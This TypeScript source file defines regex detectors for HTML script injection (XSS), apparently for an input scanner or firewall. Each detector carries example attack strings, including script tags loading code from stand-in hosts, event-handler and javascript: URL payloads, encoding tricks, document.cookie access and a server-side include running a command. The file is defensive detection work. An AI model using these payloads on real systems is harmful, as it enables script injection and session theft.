/** Detectors of HTML: tags and attributes that run script. */

import type { ByteString } from '../../../base/byte-string.ts';
import { SEEN } from '../bytes-seen.ts';
import { isOwnTag } from '../harmless-markup.ts';
import { afterBlank, words } from '../literals.ts';
import {
  callsOwnFunctions,
  isDataElement,
  isModuleWithoutType,
  isNameOfElement,
  isOwnScript,
  isWidgetScript,
} from '../own-code.ts';
import { patternFamily, textKinds, type PatternDetector } from '../patterns.ts';

/** How event handlers of HTML begin. */
const eventWords = words(`onabort onactivate onafter onanimation onauxclick onbefore onbegin onblur
  onbounce oncancel oncanplay onchange onclick onclose oncommand oncontentvis oncontextmenu oncopy oncuechange oncut ondblclick
  ondrag ondrop ondurationchange onend onerror onfinish onfocus onformdata onfullscreen ongotpointer onhashchange
  oninput oninvalid onkey onload onlostpointer onmessage onmouse onoffline ononline onpage onpaste onpause onplay onpointer
  onpopstate onprogress onpropertychange onratechange onreadystatechange onrepeat onreset onresize
  onrowexit onscroll onsearch onseek onselect onshow onstart onstop onstorage onsubmit onsuspend
  ontimeupdate ontoggle ontouch ontransition onunload onvolumechange onwaiting onwebkit onwheel`);

/** Functions and objects that script attacks begin with. */
const scriptCall =
  /^\s{0,8}["'`]?[^"'`<>]{0,40}\b(?:alert|confirm|prompt|eval|fetch|import|document|location|top|self)\b/i;

/**
 * Whether a handler follows the quote that closes the attribute which a value is put into: it is
 * the first, third or fifth one. Handlers between pairs of quotes are text about pages, unless they
 * do what attacks do.
 */
function closesAttribute(text: ByteString, start: number, end: number): boolean {
  if (callsOwnFunctions(text, end - 1)) return false;
  const quote = text.charAt(start);
  if (!/["'`]/.test(quote)) return true;
  let before = 0;
  for (let at = text.indexOf(quote); at >= 0 && at < start; at = text.indexOf(quote, at + 1)) {
    before++;
  }
  return before % 2 === 0 || scriptCall.test(text.slice(end, end + 100));
}

/** Whether `<script` at an offset begins an element whose content browsers run. */
function runsScript(text: ByteString, start: number, end: number): boolean {
  if (isNameOfElement(text, start, end) || isDataElement(text, start)) return false;
  if (isModuleWithoutType(text, end) || isWidgetScript(text, start)) return false;
  return !isOwnScript(text, start);
}

const scriptStart = /<script/i;

/** The same, of a match with `<script` in it. */
function holdsScript(text: ByteString, start: number, end: number): boolean {
  const found = scriptStart.exec(text.slice(start, end));
  if (found === null || /<scr</i.test(text.slice(start, end))) return true;
  const open = start + found.index;
  return runsScript(text, open, open + found[0].length);
}

/** Whether a URL of a script has one: `"javascript:"` has none. */
function hasScript(text: ByteString, start: number, end: number): boolean {
  const quote = text.charAt(start);
  return !/["']/.test(quote) || text.charAt(end) !== quote;
}

const ownFile =
  /(?:<link(?:\s{1,4}(?:rel="stylesheet"|type="text\/css")){1,2}\s{1,4}href="(?!\/\/)[\w./-]{1,80}\.css"|<(?:embed|object)\s{1,4}(?:type="[a-z]{1,16}\/[\w.+-]{1,32}"\s{1,4})?(?:src|data)="(?!\/\/)[\w./-]{1,80}\.(?:pdf|mp[34]|png|jpe?g)")\s{0,4}\/?>/iy;

/** Whether a tag is more than one that loads a file of the site that holds no script. */
function loadsMore(text: ByteString, start: number): boolean {
  ownFile.lastIndex = start;
  return !ownFile.test(text);
}

/** The detector of tags that load something, as markup of editors does, too. */
export const loadingTag = 198_405;

const html = 'HTML standard, sections 4.12, 8.1.8 and 13.2.5';
const rows: readonly PatternDetector[] = [
  {
    id: 198_400,
    name: 'script-tag',
    proves: 'opens a `<script>` element',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less,
    literals: ['script', 'scr\0ipt'],
    pattern:
      /<[\0\s]{0,4}(?:[\w-]{1,16}:)?scr[\0]?ipt(?![\w-])(?=[\s/>"'\\+\0<(;:?])(?=[^<]{0,300}?[>=(])/gi,
    counts: runsScript,
    examples: {
      attacks: [
        ...['<script>alert(1)</script>', '<SCRIPT/src=//x>', '<svg:script x>', '<script\n>'],
        '<svg><script>&#97;lert(1)</script>',
        ...['<script setup>alert(1)</script>', 'see <script src="/js/a.js?x=alert"></script>'],
        '<script>import("//x.example/a.js")</script>',
        '<script type="module">import a from "//x.example/a.js"</script>',
      ],
      benign: [
        ...['the <scripture> tag', '</script>', 'script>'],
        'the <script> element goes to the end, else the body is not there yet',
        'stickers: <script>, {{ }}, ${}',
        '<script setup> in Vue 3 does not see my props',
        'Use <script src="/js/app.js" defer></script> right before </body>',
        '<script type="application/ld+json">{"@type":"Person"}</script>',
        "<script setup>\nimport { ref } from 'vue'\nconst count = ref(0)\n</script>",
      ],
    },
  },
  {
    id: 198_420,
    name: 'script-from-elsewhere',
    proves: 'loads a script from another host',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less | SEEN.equals | SEEN.slash,
    literals: ['script', 'scr\0ipt'],
    pattern:
      /<[\0\s]{0,4}(?:[\w-]{1,16}:)?scr[\0]?ipt(?=[\s/"'\0])[^<>]{0,200}?[\s/"'\0](?:src|href|xlink:href)[\s\0]{0,8}=[\s\0"'`]{0,8}(?:https?:|data:|[\\/]{2})/gi,
    counts: (text, start) => !isWidgetScript(text, start),
    examples: {
      attacks: [
        '<script src=//x.example/a.js>',
        '"><script async src="https://x.example"></script>',
        '<script async src="https://platform.twitter.com/widgets.js" src="//x"></script>',
        '<script async src="https://platform.twitter.com.x.example/widgets.js"></script>',
        '<svg:script href=data:text/javascript,1>',
      ],
      benign: [
        ...['<script src="/app.js">', 'a <script src= attribute', '<img src=//x.example/a.png>'],
        '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
      ],
    },
  },
  {
    id: 198_401,
    name: 'event-handler-in-tag',
    proves: 'gives a tag an event handler',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less | SEEN.equals,
    literals: ['on'],
    pattern:
      /<[a-z/!?%\0][^<]{0,400}?[\s/"'`\0;&\xa0\xad]on[a-z]{3,32}[\s\0/]{0,16}=(?!=|[\s]{0,2}\{(?:\(|\w{1,40}\}))/gi,
    counts: (text, start) => !isOwnTag(text, start),
    examples: {
      attacks: [
        ...['<body onload="alert(1)">', '<body onload="init()" onpageshow="alert(1)">'],
        ...['<img src=x onerror=alert(1)>', '<svg/onload=alert(1)', '<a"onclick = x'],
      ],
      benign: [
        ...['<p>turn it on = off</p>', 'x < y only = 3', '<b>once</b> upon=a'],
        '<a href="#" onclick="openMenu(); return false;">',
        '<img src="a.png" onerror="this.onerror=null; this.src=\'b.png\'">',
        '<a href="javascript:void(0)" onclick="openMenu()">',
        '<button onclick="navigator.clipboard.writeText(this.dataset.code)">',
        `<a onclick="gtag('event','click',{'category':'cta'});" href="/a">`,
        '<body onload="init()"> runs before the images',
        '<select name="a" onchange="this.form.submit()">',
        `<video autoplay oncanplay="this.classList.add('ready')">`,
      ],
    },
  },
  {
    id: 198_402,
    name: 'event-handler-after-quote',
    proves: 'closes a quoted attribute and adds an event handler',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.equals,
    literals: eventWords,
    pattern:
      /(?:^|["'`][\s/\0;]{0,16}[^<>"'`]{0,64}?)(?<![\w.$-])on(?:abort|activate|after(?:print|update|scriptexecute)|animation\w{3,9}|auxclick|before\w{3,16}|begin|blur|bounce|cancel|canplay\w{0,7}|change|click|close|command|contentvis\w{5,30}|contextmenu|copy|cuechange|cut|dblclick|drag\w{0,5}|drop|durationchange|end|ended|error|finish|focus\w{0,3}|formdata|fullscreenchange|gotpointer\w{4,12}|hashchange|input|invalid|key(?:down|press|up)|load\w{0,9}|lostpointer\w{4,12}|message|mouse\w{2,5}|offline|online|page\w{4,5}|paste|pause|play\w{0,3}|pointer\w{2,17}|popstate|progress|propertychange|ratechange|readystatechange|repeat|reset|resize|rowexit|scroll\w{0,12}|search|seek\w{2,3}|select\w{0,15}|show|start|stop|storage|submit|suspend|timeupdate|toggle|touch\w{3,6}|transition\w{3,6}|unload|volumechange|waiting|webkit\w{10,24}|wheel)[\s\0/]{0,8}=(?!=)(?=[\s\0]{0,8}["'`]?[\w$\\&(![{`+/ ])/gi,
    counts: closesAttribute,
    examples: {
      attacks: ['" onmouseover="alert(1)', "x' autofocus onfocus=alert(1) y='", '"onclick=x'],
      benign: [
        ...[
          'he said "hello" on = off',
          'I use onclick="go()" and onload="init()" here',
          '"a.onload = b"',
        ],
        'name="online"',
      ],
    },
  },
  {
    id: 198_403,
    name: 'script-scheme',
    proves: 'is or holds a URL that runs script',
    source: 'HTML standard, section 7.4.2.3.2 (javascript: URLs)',
    strong: true,
    confirmedBy: [941],
    needs: SEEN.colon,
    literals: ['t:', '\0:', ...afterBlank(':')],
    pattern:
      /(?:^|[\s"'`=(>,;\x01-\x20/])(?:j[\s\0]{0,4}a[\s\0]{0,4}v[\s\0]{0,4}a|v[\s\0]{0,4}b|l[\s\0]{0,4}i[\s\0]{0,4}v[\s\0]{0,4}e)[\s\0]{0,4}s[\s\0]{0,4}c[\s\0]{0,4}r[\s\0]{0,4}i[\s\0]{0,4}p[\s\0]{0,4}t[\s\0]{0,4}:(?!void\(0\)|;)(?=[\s\0]{0,8}(?:\/\/|\/\*|[-+!~("'`[%]|[\w$.]{1,64}[\s\0]{0,8}(?:[(=`[/;+]|\\|%|:[a-z])))/gi,
    counts: hasScript,
    examples: {
      attacks: ['javascript:alert(1)', 'java\tscript:alert(1)', 'vbscript:msgbox(1)'],
      benign: [
        'JavaScript: the good parts',
        'javascript:void(0)',
        'learn javascript: a guide',
        'a[href^="javascript:"]',
      ],
    },
  },
  {
    id: 198_404,
    name: 'data-document',
    proves: 'holds a `data:` URL of a document that runs script',
    source: 'RFC 2397',
    strong: true,
    confirmedBy: [941],
    needs: SEEN.colon | SEEN.slash,
    literals: ['data:'],
    pattern:
      /data:[\s\0]{0,4}(?:text\/(?:html|xml|xsl|javascript)|application\/(?:xhtml\+xml|xml|x?-?javascript))[^,<>]{0,64},(?=[\s\0]{0,8}(?:<|%3c|[A-Za-z0-9+/]{8}|alert))/gi,
    examples: {
      attacks: ['data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4='],
      benign: [
        'data:image/png;base64,iVBORw0KGgo=',
        'the data: text/html, or json',
        // What runs script in it is found in its own text.
        'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==',
      ],
    },
  },
  {
    id: loadingTag,
    name: 'loading-tag',
    proves: 'opens an element that loads a document or a program',
    source: html,
    strong: false,
    confirmedBy: [941],
    needs: SEEN.less,
    literals: ['<'],
    pattern:
      /<[\0\s]{0,4}(?:iframe|frameset|frame|object|embed|applet|base|meta|link|isindex|layer|ilayer|bgsound|xml|svg|math|form|style|template|portal|foreignobject|animate|set|marquee|details|video|audio|noembed|noscript|xss|body|html|img|input|button|image|textarea|title|keygen|source|select)(?=[\s/>"'\0+;]|$)(?![^<>]{0,100}\w=\{[\w({\s])/gi,
    counts: (text, start) => !isOwnTag(text, start),
    examples: {
      attacks: ['<iframe src=//x>', '<svg>', '<meta http-equiv=refresh>'],
      benign: [
        ...['<b>bold</b>', '<p>text</p>', 'a <formal> note'],
        '<button onClick={() => setCount(count + 1)}>+</button>',
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0L9 9"/></svg>',
        '<style>.a { background: url(/b.png); }</style> goes into the head',
        '<style type="text/css">.a td{padding:4px}</style><table class="a">',
      ],
    },
  },
  {
    id: 198_406,
    name: 'active-tag',
    proves: 'opens an element that loads script by itself',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less,
    literals: ['<'],
    pattern:
      /<(?:iframe|frame|object|embed|applet|base|link|meta|form|isindex|input|button|a|math|svg|image|use|animate|set|body|table|td|bgsound|layer|xml|img|video|source|area|math\w{0,8})(?=[\s/])[^<>]{0,300}?(?:srcdoc|src|data|href|action|formaction|code|codebase|xlink:href|values|to|from|background|dynsrc|lowsrc|content|poster)[\s\0]{0,8}=[\s\0"'`]{0,8}(?:[^<>"']{0,32}url=)?[\s\0"'`\x01-\x20]{0,8}(?:java|vb|live)[\s\0]{0,4}script[\s\0]{0,4}:(?!void\(0\)|;)|<(?:iframe)(?=[\s/])[^<>]{0,200}?srcdoc[\s]{0,8}=|<i?frame[\s/][^<>]{0,100}?src\s{0,4}=\s{0,4}(?:https?:)?\/\/|<(?:base|object|embed|applet|layer|bgsound)[\s/][^<>]{0,200}?(?:href|data|src|code|codebase|classid)[\s]{0,8}=|<meta[\s/][^<>]{0,100}?http-equiv[\s]{0,8}=[\s"']{0,4}(?:refresh|set-cookie|link)|<link[\s/][^<>]{0,100}?(?:stylesheet|import)[^<>]{0,100}href|<(?:!entity(?!\s{1,16}\w{1,32}\s{1,4}"(?:&#x?\w{1,6};|[^"<>%&]{0,64})"\s{0,4}>)|\?xml-stylesheet|\?import)[\s]/gi,
    counts: loadsMore,
    examples: {
      attacks: [
        '<iframe srcdoc="x">',
        '<a href="javascript:alert(1)">',
        '<object data=//x>',
        ...['<link rel="stylesheet" href="//x/a.css">', '<embed src="//x/a.pdf">'],
        ...['<object data="a.svg">', '<embed src="a.pdf" src="javascript:alert(1)">'],
        '<base href=//x>',
        '<meta http-equiv=refresh content=0>',
        '<iframe src=http://evil.example>',
      ],
      benign: [
        'Add <link rel="stylesheet" href="css/style.css"> to it',
        '<embed src="a.pdf"> is blocked',
        ...['<a href="https://x.example/">', '<img src="a.png" alt="">'],
        '<iframe src="https://video.example/embed/1"></iframe>',
      ],
    },
  },
  {
    id: 198_407,
    name: 'style-script',
    proves: 'runs script from a style',
    source: 'CSS 2.1 with the extensions of Internet Explorer and Gecko',
    strong: true,
    confirmedBy: [941],
    needs: 0,
    literals: words('expression e\\xp */ -moz-binding behavio url( -o-link @import'),
    pattern:
      /(?:(?:^|[:=\s"';/*])(?:expression|e\\xp\\re\\s\\s\\i\\o\\n|exp\/\*[^*]{0,32}\*\/ression)[\s]{0,4}\((?=[^)]{0,64}(?:\(|=))|-moz-binding[\s]{0,4}:|behaviou?r[\s]{0,4}:[\s]{0,4}url|url\([\s"']{0,4}(?:javascript|vbscript|data:text\/html)|-o-link[\s]{0,4}:|<style[^<>]{0,100}>[^<]{0,200}@import\b)/gi,
    examples: {
      attacks: [
        'style=x:expression(alert(1))',
        'width=expression(alert(1))',
        'a{-moz-binding:url(x)}',
        'b:url(javascript:x)',
      ],
      benign: ['a regular expression (of joy)', '.a { color: red; }', 'background: url(a.png)'],
    },
  },
  {
    id: 198_408,
    name: 'server-side-include',
    proves: 'has a server include something',
    source: 'Apache httpd, mod_include; ESI Language Specification 1.0',
    strong: true,
    confirmedBy: [941, 932],
    needs: SEEN.less,
    literals: ['<!--', '<esi:'],
    pattern:
      /<!--[\s]{0,8}#[\s]{0,4}(?:exec|include|echo|printenv|config|fsize|flastmod|set|if)\b|<esi:(?:include|inline|vars|remove|assign|debug)\b/gi,
    examples: {
      attacks: [
        '<!--#exec cmd="id"-->',
        '<!-- #include file="x" -->',
        '<esi:include src="http://x"/>',
      ],
      benign: ['<!-- # heading -->', '<!-- comment -->'],
    },
  },
  {
    id: 198_409,
    name: 'closing-tag-first',
    proves: 'closes an element such as `<script>` or `<textarea>` and opens another',
    source: 'HTML standard, section 13.2.5.2',
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less | SEEN.slash,
    literals: ['</'],
    pattern:
      /^[^<]{0,64}<\/[\s\0]{0,2}(?:script|title|textarea|style|noscript|xmp|iframe|noembed|template|select|option)[\s/>][^<]{0,64}<[a-z!]/gi,
    examples: {
      attacks: ['</script><svg onload=x>', '"></title><img src=x>'],
      benign: ['<title>a</title><p>b</p>', 'the </b><i>'],
    },
  },
  {
    id: 198_411,
    name: 'script-of-attack',
    proves: 'begins with a `<script>` element, or has one that does what attacks use as a test',
    source: html,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.less,
    literals: ['script', 'scr<script'],
    pattern:
      /^[\s\d"'`<>()[\]{};,.*/\\=!?%&|+-]{0,32}<[\0\s]{0,4}script(?=[\s/>"'+(;])|<scr<?\/?script>?ipt[\s/>]|<script(?=[\s/>])[^<>]{0,100}>[^<]{0,100}?(?:(?:alert|confirm|prompt|eval)\s{0,2}[(`]|document\s{0,2}\.\s{0,2}(?:cookie|domain))/gi,
    counts: holdsScript,
    examples: {
      attacks: [
        '<script src=//x></script>',
        '"><script>x',
        '-1<script>x',
        '<scrscriptipt>x',
        'a<script>alert(1)',
      ],
      benign: [
        ...['the <script> tag', '<p>x</p><script>', '<scripture>', '<script> tags as alert(1)'],
        '<script type="application/json">{"alert(1)":1}</script>',
      ],
    },
  },
  {
    id: 198_412,
    name: 'hidden-markup',
    proves: 'hides script in markup that only some browsers read: data islands, comments in words',
    source: 'MSHTML reference, "Data Binding"; CSS 2.1, section 4.1.3; JavaScript 1.1, entities',
    strong: true,
    confirmedBy: [941],
    needs: 0,
    literals: words('datasrc datafld <!-- @i\\ @im\\ ` &{ script#'),
    pattern:
      /\bdatasrc\s{0,4}=\s{0,4}["']?#|\bdatafld\s{0,4}=\s{0,4}["']?\w|\b(?:j|ja|jav|java|javas|javasc|javascr|vbs|vbscr)<!--[^<>]{0,16}-->\w{1,8}\s{0,4}:|@i(?:\\{1,2}m|m\\{1,2})\w{0,4}(?:port|rt)|<[a-z]{1,16}\s[^<>`]{0,100}=\s{0,4}`[^`]{0,40}>[^`]{0,40}`|=\s{0,4}["']\s{0,4}&\{[^{}]{1,200}\}|=\s{0,4}["']?\s{0,4}javascript#[\w.]{2,40}[(=.]/gi,
    examples: {
      attacks: [
        ...['<span datasrc="#x" datafld="b"></span>', '<img src="javas<!-- -->cript:alert(1)">'],
        ...["<style>@im\\port'x'</style>", '<script a=`>` src="//x">', '<br size="&{alert(1)}">'],
        '<a href="javascript#document.cookie">',
      ],
      benign: [
        ...['<!-- a comment -->', '<a title=`x`>', 'javascript#intro', '@import "a.css"', '&{x}'],
        'data source = #3',
      ],
    },
  },
  {
    id: 198_410,
    name: 'utf-7-tag',
    proves: 'hides a tag in UTF-7',
    source: 'RFC 2152; HTML standard, section 13.2.3',
    strong: true,
    confirmedBy: [941],
    needs: SEEN.plus | SEEN.dash,
    literals: ['+adw-'],
    pattern: /\+ADw-[a-z!/]{1,16}[^<]{0,64}\+AD4-/gi,
    examples: {
      attacks: ['+ADw-script+AD4-alert(1)'],
      benign: ['a+ADw-b', 'ADw- and AD4-'],
    },
  },
];

/** The family of HTML. */
export const html5 = patternFamily('html', rows, [...textKinds, 'document', 'page']);
